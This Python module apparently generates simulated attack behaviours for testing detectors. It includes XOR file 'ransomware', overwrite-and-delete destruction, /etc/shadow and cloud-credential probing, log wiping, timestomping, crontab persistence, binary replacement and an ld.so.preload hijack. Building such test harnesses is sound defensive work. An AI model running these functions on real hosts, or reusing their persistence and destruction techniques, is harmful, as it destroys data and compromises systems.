"""Attack behaviours on files: all of them the run's own, in its own layer, which goes with it."""

import glob
import io
import os
import shutil
import subprocess
import tarfile
import time
import zlib

DOCS = "/tmp/scratch/docs"


def pause_until(end, seconds):
    time.sleep(max(0, min(seconds, end - time.monotonic())))
    return time.monotonic() < end


def encrypt(path):
    with open(path, "rb") as file:
        data = file.read()
    with open(path, "r+b") as file:
        file.write(bytes(byte ^ 0x5A for byte in data))
        os.fsync(file.fileno())
    os.rename(path, f"{path}.locked")


def ransomware(rng, end):
    while time.monotonic() < end:
        for path in glob.glob(f"{DOCS}/*.txt"):
            encrypt(path)
            if time.monotonic() >= end:
                break
        for path in glob.glob(f"{DOCS}/*.locked"):
            os.rename(path, path.removesuffix(".locked"))


def slow_ransomware(rng, end):
    for path in sorted(glob.glob(f"{DOCS}/*.txt")):
        encrypt(path)
        if not pause_until(end, rng.uniform(0.1, 0.2)):
            return


def destroy(rng, end):
    for path in glob.glob(f"{DOCS}/*") + glob.glob("/tmp/www/*"):
        size = os.path.getsize(path)
        for _ in range(3):
            with open(path, "r+b") as file:
                file.write(rng.randbytes(size))
                os.fsync(file.fileno())
        os.unlink(path)
        if time.monotonic() >= end:
            return


def read_credentials(rng, end):
    # A decoy is mounted over it; its bytes go nowhere.
    with open("/etc/shadow", "rb") as file:
        file.read()


def hunt_keys(rng, end):
    for folder, _, names in os.walk("/run/guest/home"):
        for name in names:
            with open(os.path.join(folder, name), "rb") as file:
                file.read()
    for name in ("/root/.aws/credentials", "/srv/app/.env", "/root/.kube/config"):
        os.path.exists(name)


def stage_archive(rng, end):
    while time.monotonic() < end:
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w") as tar:
            tar.add(DOCS)
            tar.add("/usr/share/doc/bash") if os.path.exists("/usr/share/doc/bash") else None
        with open("/tmp/.cache.bin", "wb") as file:
            file.write(zlib.compress(packed.getvalue()))


def wipe_logs(rng, end):
    for path in glob.glob("/tmp/scratch/log/*.log"):
        os.truncate(path, 0)
        os.unlink(path)
        if not pause_until(end, 0.05):
            return


def timestomp(rng, end):
    while time.monotonic() < end:
        for path in glob.glob(f"{DOCS}/*"):
            os.utime(path, (1_000_000_000, 1_000_000_000))
        time.sleep(0.02)


def cron(rng, end):
    with open("/etc/crontab", "a") as file:
        file.write("* * * * * root /tmp/.x\n")
    os.makedirs("/etc/cron.d", exist_ok=True)
    with open("/etc/cron.d/update", "w") as file:
        file.write("* * * * * root /tmp/.x\n")
    os.chmod("/etc/cron.d/update", 0o644)


def replace_program(rng, end):
    shutil.copyfile("/bin/true", "/usr/bin/uptime-new")
    os.chmod("/usr/bin/uptime-new", 0o755)
    os.rename("/usr/bin/uptime-new", "/usr/bin/uptime")


def preload_file(rng, end):
    shutil.copyfile(glob.glob("/lib/x86_64-linux-gnu/libm.so.6")[0], "/tmp/libx.so")
    with open("/etc/ld.so.preload", "w") as file:
        file.write("/tmp/libx.so\n")
    subprocess.run(["/bin/true"], check=False)
    os.unlink("/etc/ld.so.preload")


def drop_program(rng, end):
    with open("/bin/true", "rb") as file:
        data = file.read()
    with open("/tmp/.update", "wb") as file:
        file.write(data)
    os.chmod("/tmp/.update", 0o755)
    subprocess.run(["/tmp/.update"], check=False)


BEHAVIOURS = {
    "ransomware": ransomware,
    "ransomware-slow": slow_ransomware,
    "data-destruction": destroy,
    "credential-read": read_credentials,
    "key-hunt": hunt_keys,
    "archive-staging": stage_archive,
    "log-wipe": wipe_logs,
    "timestomp": timestomp,
    "cron-entry": cron,
    "program-replaced": replace_program,
    "preload-file": preload_file,
    "dropped-program": drop_program,
}
